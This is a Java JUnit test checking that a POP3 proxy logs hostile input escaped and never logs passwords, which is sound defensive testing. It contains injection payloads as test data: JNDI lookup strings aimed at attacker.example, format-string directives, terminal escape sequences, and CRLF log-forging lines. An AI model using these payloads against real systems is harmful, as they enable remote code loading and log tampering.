package org.pop3proxy.engine.hardening;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.UUID;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Hostile text in USER, commands and server replies is logged escaped and inert, and no
 * password ever reaches a log, at TRACE level included. The proxy runs in a child JVM whose
 * slf4j-simple is set to TRACE and a file by system properties on its command line, which is
 * the only sound way: slf4j-simple reads its configuration once, when the first logger is made,
 * and the test JVM's loggers exist long before this test.
 */
class LogSafetyTest {
    private static final Pattern LOG_LINE = Pattern.compile("^\\[[^\\]]+\\] (TRACE|DEBUG|INFO|WARN|ERROR) \\S+ - .*$");

    @TempDir
    Path dir;

    @Test
    void hostileTextIsEscapedAndPasswordsNeverLogged() throws Exception {
        String secret = "pw-" + UUID.randomUUID();
        String secret2 = "second:" + UUID.randomUUID();
        String transactionSecret = "again-" + UUID.randomUUID();
        Path log = dir.resolve("proxy.log");
        List<String> jvm = List.of("-Xmx64m", "-Dorg.slf4j.simpleLogger.defaultLogLevel=trace",
                "-Dorg.slf4j.simpleLogger.logFile=" + log);
        try (HostileServer server = new HostileServer(c -> {
            c.send("+OK ready ${jndi:ldap://server/x} %n");
            String user = c.readLine();
            if (user == null) {
                return;
            }
            c.send("+OK user %n%s ${jndi:ldap://x}");
            String pass = c.readLine();
            if (pass != null && pass.contains("second")) {
                c.send("-ERR [AUTH] denied \u001b[31m ${jndi:ldap://y}");
                return;
            }
            c.send("+OK welcome");
            String line;
            while ((line = c.readLine()) != null) {
                c.send(line.startsWith("QUIT") ? "+OK bye" : "+OK echo %s%n");
                if (line.startsWith("QUIT")) {
                    return;
                }
            }
        });
             ForkedProxy proxy = new ForkedProxy(jvm, server.port(), 5_000, null, dir.resolve("child.err"))) {
            String[] users = {"${jndi:ldap://attacker.example/a}", "%n%s%x%n", "j\u00f6rg\u20ac\u0000x",
                "a\u001b[2J\u001b]0;pwned\u0007", "evil\rINFO forged line", "ok-user"};
            for (String user : users) {
                try (RawClient c = new RawClient(proxy.port())) {
                    c.expect("+OK POP3 proxy ready");
                    c.raw(("USER " + user + "\r\n").getBytes(StandardCharsets.UTF_8));
                    String reply = c.readLine();
                    if (!"+OK password required".equals(reply)) {
                        continue; // Refused locally (control bytes): nothing to log in with.
                    }
                    c.send("PASS " + secret);
                    String login = c.readLine();
                    assertTrue(login != null && login.startsWith("+OK"), user + ": " + login);
                    c.send("PASS " + transactionSecret).readLine();
                    c.send("${jndi:ldap://attacker.example/cmd}").readLine();
                    c.send("LIST %n%n%n").readLine();
                    c.send("QUIT").expect("+OK bye");
                }
            }
            try (RawClient c = new RawClient(proxy.port())) {
                c.login0();
                c.send("PASS " + secret2).expect("-ERR bad login");
            }
            try (RawClient c = new RawClient(proxy.port())) {
                c.expect("+OK POP3 proxy ready");
                c.send("PASS " + secret).expect("-ERR give USER first");
                c.send("USER \u001b[2J").readLine();
                c.raw(("USER x\r\nINFO org.pop3proxy.session - forged\r\n").getBytes(StandardCharsets.US_ASCII));
                c.readLine();
                c.readLine();
            }
            proxy.stop();
        }

        byte[] raw = Files.readAllBytes(log);
        String text = new String(raw, StandardCharsets.ISO_8859_1);
        assertTrue(text.contains("C: USER \\x24\\x7bjndi:ldap://attacker.example/a\\x7d"),
                "USER is traced, escaped:\n" + text);
        assertTrue(text.contains("C: PASS ****"), "PASS is traced masked");
        for (String s : List.of(secret, secret2, transactionSecret, secret2.substring(7))) {
            assertFalse(text.contains(s), "a password reached the log: " + s);
        }
        assertFalse(text.contains("${"), "no lookup syntax survives");
        assertFalse(text.contains("%n") || text.contains("%s"), "no format directive survives");
        for (int i = 0; i < raw.length; i++) {
            int b = raw[i] & 0xff;
            assertTrue(b == '\n' || b >= 0x20 && b < 0x7f, "byte 0x" + Integer.toHexString(b) + " at " + i);
        }
        for (String line : text.split("\n")) {
            assertTrue(LOG_LINE.matcher(line).matches(), "every line is one log record: " + line);
        }
        assertFalse(text.lines().anyMatch(l -> l.startsWith("INFO org.pop3proxy.session - forged")));
        String err = Files.readString(dir.resolve("child.err"), StandardCharsets.ISO_8859_1);
        assertEquals("", err.strip(), "the child wrote nothing to stderr");
    }
}
